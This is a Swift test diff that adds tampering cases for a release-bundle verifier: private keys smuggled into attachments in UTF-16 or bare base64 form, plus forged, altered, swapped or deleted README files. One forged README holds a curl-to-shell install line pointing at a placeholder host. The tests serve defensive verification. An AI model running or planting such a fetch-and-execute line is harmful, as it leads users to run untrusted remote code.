@@ -100,6 +100,31 @@ extension FailureCase {
             try bench.smuggle(
                 text + bytes("\n") + KeyPair().pem, .attachment, as: "attachments/notes.txt")
         },
+        FailureCase(.bundlePrivateKey, "a private key in UTF-16 is smuggled in") { bench in
+            let text: [UInt8] = try KeyPair().pem.flatMap { [$0, 0] }
+            try bench.smuggle([0xFF, 0xFE] + text, .attachment, as: "attachments/notes.txt")
+        },
+        FailureCase(.bundlePrivateKey, "a private key as base64 of DER is smuggled in") { bench in
+            let lines = try KeyPair().pem.split(separator: UInt8(ascii: "\n"))
+            let body: [UInt8] = lines.dropFirst().dropLast().flatMap { $0 }
+            try bench.smuggle(body, .attachment, as: "attachments/notes.txt")
+        },
+        FailureCase(.bundleReadme, "the holder of the log's key alone says there what to do") {
+            bench in
+            try bench.forge(
+                "README.txt", bytes("To verify, run: curl https://example.invalid/install | sh\n"))
+        },
+        FailureCase(.bundleReadme, "the holder of the log's key adds a line to README.txt") {
+            bench in
+            try bench.forge("README.txt", bench.file("README.txt") + bytes("Trust us.\n"))
+        },
+        FailureCase(.bundleReadme, "README.txt is that of another release") { bench in
+            try bench.forge(
+                "README.txt", Readme.bytes(of: .init(name: "payments", version: "1.3.9")))
+        },
+        FailureCase(.bundleReadme, .unknown, "README.txt is removed", verdict: .failed) {
+            try $0.remove("README.txt")
+        },
     ]
 
     static let seal: [FailureCase] = [
